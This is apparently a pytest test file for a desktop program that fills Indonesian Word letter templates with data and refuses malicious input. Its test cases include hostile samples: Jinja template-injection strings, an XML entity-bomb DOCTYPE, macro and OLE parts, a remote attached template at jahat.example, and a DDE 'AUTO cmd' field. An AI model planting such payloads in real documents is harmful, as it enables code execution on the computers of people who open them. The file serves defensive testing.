"""Letters in Word files: filled with facts, and a template that means harm is refused."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING, Any

import docx
import pytest
from docx.shared import Mm

from asn_desktop.base.errors import BadFile
from asn_desktop.base.paths import resource
from asn_desktop.exchange.letter import fill

if TYPE_CHECKING:
    from collections.abc import Callable

FACTS: dict[str, Any] = {
    "nomor": "800/1",
    "surat": [{"nama": "Butet Harahap", "baris": ["a", "b"]}, {"nama": "Candra", "baris": []}],
}


def template(*lines: str) -> bytes:
    """A Word file with these paragraphs."""
    made = docx.Document()
    for line in lines:
        made.add_paragraph(line)
    return saved(made)


def saved(made: Any) -> bytes:
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def lines(content: bytes) -> list[str]:
    return [one.text for one in docx.Document(io.BytesIO(content)).paragraphs]


def changed(change: Callable[[dict[str, bytes]], None], *text: str) -> bytes:
    """A template whose parts were tampered with."""
    with zipfile.ZipFile(io.BytesIO(template(*(text or ("{{ nomor }}",))))) as book:
        parts = {one.filename: book.read(one) for one in book.infolist()}
    change(parts)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return target.getvalue()


def test_facts_loops_and_conditions() -> None:
    made = fill(
        template(
            "Nomor {{ nomor }}", "{%p for orang in surat %}", "{{ orang.nama|upper }}",
            "{%p if orang.baris %}", "{{ orang.baris|join(', ') }}", "{%p endif %}",
            "{%p endfor %}",
        ),
        FACTS,
    )  # fmt: skip
    assert lines(made) == ["Nomor 800/1", "BUTET HARAHAP", "a, b", "CANDRA"]


def test_a_tag_that_word_tore_into_runs() -> None:
    made = docx.Document()
    line = made.add_paragraph("No. {")
    for part, bold in (("{ no", True), ("mor }", False), ("} tahun", True)):
        line.add_run(part).bold = bold
    assert lines(fill(saved(made), FACTS)) == ["No. 800/1 tahun"]


def test_what_stands_in_a_name_is_only_a_name() -> None:
    odd = "<w:t>&amp; {{ 7 * 7 }} {% for %} \x07\x0b\ufffe"
    assert lines(fill(template("{{ nomor }}"), {"nomor": odd})) == [
        "<w:t>&amp; {{ 7 * 7 }} {% for %} "
    ]


def test_the_logo_is_an_image_or_nothing() -> None:
    logo = io.BytesIO()
    from PIL import Image

    Image.new("RGB", (40, 40), "green").save(logo, "PNG")
    shape = template("{%p if logo %}", "{{ logo }}", "{%p endif %}", "{{ nomor }}")
    assert docx.Document(io.BytesIO(fill(shape, FACTS, logo.getvalue()))).inline_shapes
    assert lines(fill(shape, FACTS)) == ["800/1"]
    assert lines(fill(shape, FACTS, b"no picture")) == ["800/1"]
    bare = io.BytesIO()  # without the heads that Word files look for
    Image.new("CMYK", (2000, 1000)).save(bare, "JPEG")
    (found,) = docx.Document(io.BytesIO(fill(shape, FACTS, bare.getvalue()))).inline_shapes
    assert abs(found.height - Mm(16)) < Mm(1)


@pytest.mark.parametrize(
    "text",
    [
        "{{ nomor.__class__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ nomor.format(1) }}",
        "{{ range(9) }}",
        "{{ cycler }}",
        "{{ self }}",
        "{{ 'a' * 999999999 }}",
        "{{ nomor ~ nomor }}",
        "{{ 9 ** 9 }}",
        "{{ nomor|center(999999999) }}",
        "{{ nomor|attr('upper') }}",
        "{{ tidak_ada }}",
        "{% set a = 1 %}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% macro a() %}{% endmacro %}",
        "{% for a in [1, 2] %}{{ a }}{% endfor %}",
        "{% for a in range(9) %}{{ a }}{% endfor %}",
        "{% for a in surat %}" * 3 + "x" + "{% endfor %}" * 3,
        "{% for a in surat %}",
        "{% vm %}",
        "{% colspan 3 %}",
        "{%- if nomor -%}x{% endif %}",
        "{# catatan #}",
        "{{ nomor",
        "nomor }}",
        "{{ " + "n" * 500 + " }}",
        "{% if nomor %}" * 300 + "{% endif %}" * 300,
    ],
)
def test_a_template_that_says_more_than_it_may_is_refused(text: str) -> None:
    with pytest.raises(BadFile):
        fill(template(text), FACTS)


def _document_type(parts: dict[str, bytes]) -> None:
    bomb = b'<!DOCTYPE w [<!ENTITY a "aaaa">]><w:document'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:document", bomb, 1)


def _macro(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"x"


def _object(parts: dict[str, bytes]) -> None:
    parts["word/embeddings/oleObject1.bin"] = b"x"


def _remote(parts: dict[str, bytes]) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://jahat.example/a.dotm" '
        b'TargetMode="External"/></Relationships>'
    )


def _put(parts: dict[str, bytes], more: bytes) -> None:
    """Something at the beginning of the text."""
    body = parts["word/document.xml"]
    parts["word/document.xml"] = body.replace(b"<w:body>", b"<w:body>" + more)


def _field(parts: dict[str, bytes]) -> None:
    runs = [b"<w:r><w:instrText>%b</w:instrText></w:r>" % word for word in (b"DDE", b"AUTO cmd")]
    _put(parts, b"<w:p>%b</w:p>" % b"".join(runs))


def _no_body(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


def _broken(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"][:-40]


def _many(parts: dict[str, bytes]) -> None:
    parts.update({f"word/media/{number}.png": b"x" for number in range(600)})


def _large(parts: dict[str, bytes]) -> None:
    parts["word/media/large.png"] = bytes(30_000_000)


def _long(parts: dict[str, bytes]) -> None:
    _put(parts, b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000)


@pytest.mark.parametrize(
    "change",
    [_document_type, _macro, _object, _remote, _field, _no_body, _broken, _many, _large, _long],
)
def test_a_file_that_is_no_honest_letter_is_refused(
    change: Callable[[dict[str, bytes]], None],
) -> None:
    with pytest.raises(BadFile):
        fill(changed(change), FACTS)


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"x" * 5_000_001])
def test_something_else_is_refused(content: bytes) -> None:
    with pytest.raises(BadFile):
        fill(content, FACTS)


def test_a_link_to_click_may_stay() -> None:
    def link(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        one = (
            b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/hyperlink" Target="https://bkpsdm.example" TargetMode="External"/>'
        )
        parts[name] = parts[name].replace(b"</Relationships>", one + b"</Relationships>")

    assert lines(fill(changed(link), FACTS)) == ["800/1"]


@pytest.mark.parametrize("name", ["surat-panggilan", "surat-keterangan", "surat-pengganti"])
def test_what_the_program_brings_is_a4_and_names_nobody(name: str) -> None:
    made = docx.Document(str(resource("letters", f"{name}.docx")))
    page = made.sections[0]
    assert abs(int(page.page_width or 0) - Mm(210)) < Mm(1)
    assert abs(int(page.page_height or 0) - Mm(297)) < Mm(1)
    assert made.core_properties.author == ""
